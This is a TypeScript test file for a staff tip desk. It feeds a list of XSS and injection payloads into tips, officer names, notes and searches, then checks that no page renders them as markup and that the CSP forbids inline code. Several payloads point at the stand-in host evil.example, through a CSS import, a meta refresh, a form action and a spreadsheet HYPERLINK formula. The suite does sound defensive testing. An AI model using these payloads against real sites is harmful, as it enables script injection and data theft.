import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { addMessage } from "../../functions/service/threads/add-message.ts";
import { submitTip } from "../../functions/service/tips/submit-tip.ts";
import { render } from "../site/built.ts";
import { Browser, setUp } from "./browser.ts";
import { staffUrl, type TestDesk, testDesk } from "./desk.ts";

/** What people type into boxes to make a page do something; each carries its own mark. */
const hostile = [
  `<script>alert("MARK")</script>`,
  `"><img src=x onerror=alert('MARK')>`,
  `'><svg/onload=alert(1)>MARK`,
  `</p></article></main><iframe srcdoc="<script>MARK</script>">`,
  `<a href="javascript:alert('MARK')">click</a>`,
  `javascript:alert('MARK')`,
  `--><!--<b>MARK</b>`,
  `]]><![CDATA[<b>MARK</b>`,
  `{{constructor.constructor('alert(1)')()}} \${7*7} MARK`,
  `<style>@import 'https://evil.example/MARK'</style>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/MARK">`,
  `<form action="https://evil.example/"><input name="csrf"><button>MARK</button></form>`,
  `</textarea><textarea autofocus onfocus=alert(1)>MARK`,
  `</title><script>MARK</script>`,
  `&lt;script&gt;MARK&lt;/script&gt;`,
  `\u202eMARK\u202c <b>MARK</b> \u0000\u0008MARK`,
  `＜script＞MARK＜/script＞`,
  `=HYPERLINK("https://evil.example/MARK","x")`,
  `今夜 <b onclick=alert(1)>横浜港</b> に <i>覚醒剤</i> コンテナ CSQU 305438-3 <u>MARK</u>`,
];

const html = async (answer: Response): Promise<string> => {
  expect(answer.status).toBeLessThan(500);
  return answer.text();
};

let desk: TestDesk;
let browser: Browser;
const tips: string[] = [];
beforeAll(async () => {
  desk = await testDesk({ render: (path, locals) => render(new Request(new URL(path, staffUrl)), locals) });
  // The set-up's own pages are read as data; the officer then signs in at the drawn ones.
  const plain = await testDeskBrowser();
  browser = plain;
  for (const words of hostile) {
    const accepted = await submitTip(desk.intake.ctx, {
      channel: "web",
      idempotencyKey: randomUUID(),
      report: {
        locale: "ja",
        text: words,
        goods: [],
        place: words,
        when: words,
        how: words,
        who: words,
        contact: words,
      },
    });
    await desk.intake.drained();
    await addMessage(desk.intake.ctx, {
      receipt: accepted.receipt,
      locale: "ja",
      text: words,
      idempotencyKey: randomUUID(),
    });
    await desk.intake.drained();
    tips.push(accepted.id);
  }
}, 120_000);
afterAll(() => desk?.close());

/** Signs an officer in whose own name is hostile too, over a second door that answers with data. */
async function testDeskBrowser(): Promise<Browser> {
  const data = await desk.withoutPages();
  const officer = new Browser({ ...desk, app: data });
  await setUp({ ...desk, app: data }, officer, {
    role: "supervisor",
    name: `<b>MARK</b>"'><img src=x onerror=alert(1)>`,
  });
  const drawn = new Browser(desk);
  for (const [name, value] of officer.cookies) drawn.cookies.set(name, value);
  return drawn;
}

/** A start tag with its attributes; a quoted value may hold anything but its quote. */
const startTag = /<([a-zA-Z][\w-]*)((?:\s+[^\s=>"'/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?)*)\s*\/?>/g;
const attribute = /([^\s=>"'/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g;

function tags(page: string): { name: string; attributes: Map<string, string> }[] {
  return [...page.matchAll(startTag)].map(([, name = "", rest = ""]) => ({
    name: name.toLowerCase(),
    attributes: new Map(
      [...rest.matchAll(attribute)].map(([, key = "", double, single, bare]) => [
        key.toLowerCase(),
        double ?? single ?? bare ?? "",
      ]),
    ),
  }));
}

/** Elements that the desk itself draws; a page with any other was written by somebody else. */
const own = new Set(
  "html head meta title link body a header span nav form input button details summary div fieldset legend small aside p main section ul ol li label h1 h2 h3 strong em time article dl dt dd table thead tbody tfoot tr td th q mark bdi br select option textarea footer kbd dialog script audio img desk-again desk-commands desk-keys desk-live desk-send desk-session".split(
    " ",
  ),
);

function inspect(page: string, at: string): void {
  for (const { name, attributes } of tags(page)) {
    expect(own.has(name), `${at}: <${name}>`).toBe(true);
    for (const [key, value] of attributes) {
      expect(key.startsWith("on"), `${at}: ${name} ${key}`).toBe(false);
      expect(key, at).not.toMatch(/^(style|srcdoc|formaction|http-equiv)$/);
      if (/^(href|src|action)$/.test(key)) expect(value, at).toMatch(/^(\/(?!\/)|#|data:image\/svg)/);
    }
    if (name === "script") expect(attributes.get("src"), at).toMatch(/^\/_astro\//);
    if (name === "meta") expect(attributes.has("http-equiv"), at).toBe(false);
  }
  const text = page.replaceAll(startTag, "");
  expect(text.match(/<\/(?:html|body|main)>/g), at).toHaveLength(3);
  expect(text, at).not.toMatch(/<!--|<!\[CDATA\[/);
}

describe("a stranger's words", () => {
  it("are shown on the tip's page as the words they are, and never become markup", async () => {
    for (const [index, id] of tips.entries()) {
      const page = await html(await browser.request(`/staff/tips/${id}/`));
      expect(page, hostile[index]).toContain("MARK");
      inspect(page, hostile[index] ?? "");
    }
  });

  it("are shown beside the queue, and the queue itself holds none of them", async () => {
    const list = await html(await browser.request("/staff/"));
    inspect(list, "queue");
    expect(list.replaceAll(/&lt;b&gt;MARK&lt;\/b&gt;[^<]*/g, "")).not.toContain("MARK");
    for (const lane of ["queue", "quarantine"])
      for (const id of tips.slice(0, 4))
        inspect(await html(await browser.request(`/staff/?lane=${lane}&tip=${id}`)), `${lane} ${id}`);
  });

  it("stand in the lines that a search shows as the words they are", async () => {
    const found = await html(await browser.request("/staff/?q=MARK"));
    expect(found.match(/class="row-line"/g)?.length).toBeGreaterThan(hostile.length / 2);
    inspect(found, "lines");
    for (const words of ["evil.example", "onerror", "&lt;b&gt;"])
      inspect(await html(await browser.request(`/staff/?${new URLSearchParams({ q: words })}`)), words);
  });

  it("do no harm where an officer repeats them: reasons, questions, searches, addresses", async () => {
    const [id = ""] = tips;
    for (const words of hostile) {
      const page = await html(await browser.request(`/staff/tips/${id}/`));
      const csrf = /name="csrf" value="([^"]+)"/.exec(page)?.[1] ?? "";
      const band = /band-A"/.test(page) ? "B" : "A";
      await browser.post(`/staff/tips/${id}/band`, { csrf, band, reason: words });
      await browser.post(`/staff/tips/${id}/message`, { csrf, text: words });
      const refused = await browser.post(`/staff/tips/${id}/band`, {
        csrf,
        band,
        reason: words,
        version: "0",
        seen: "1",
        back: `/staff/?q=${encodeURIComponent(words)}`,
      });
      inspect(await html(refused), `refused ${words}`);
      await browser.post(`/staff/tips/${id}/note`, { csrf, visible: "all", text: words });
      await browser.post(`/staff/tips/${id}/close`, { csrf, outcome: "other", reason: words });
      inspect(await html(await browser.request(`/staff/tips/${id}/`)), `closed ${words}`);
      await browser.post(`/staff/tips/${id}/reopen`, { csrf });
      const query = new URLSearchParams({ q: words });
      await browser.post("/staff/views", {
        csrf,
        name: words.slice(0, 60),
        back: `/staff/?${query}`,
        shared: "1",
      });
      inspect(await html(await browser.request(`/staff/?${query}`)), `search ${words}`);
      const stranger = new Browser(desk);
      const typed = await stranger.post("/staff/sign-in/", { email: words, password: words });
      inspect(await html(typed), `sign-in ${words}`);
    }
    inspect(await html(await browser.request(`/staff/tips/${id}/`)), "after all");
  }, 120_000);

  it("are bytes in JSON to the programs that read them, never a page", async () => {
    const { api } = await desk.officer("supervisor");
    for (const id of tips) {
      const answer = await api.get(`/tips/${id}`);
      expect(answer.headers.get("content-type")).toMatch(/^application\/json/);
      expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    }
  });

  it("cannot run even if they became markup: nothing inline is allowed", async () => {
    const policy = (await browser.request("/staff/")).headers.get("content-security-policy") ?? "";
    expect(policy).toContain("default-src 'none'");
    expect(policy).toMatch(/script-src 'self'(;|$)/);
    expect(policy).toContain("require-trusted-types-for 'script'");
    expect(policy).not.toMatch(/unsafe|https?:/);
  });
});
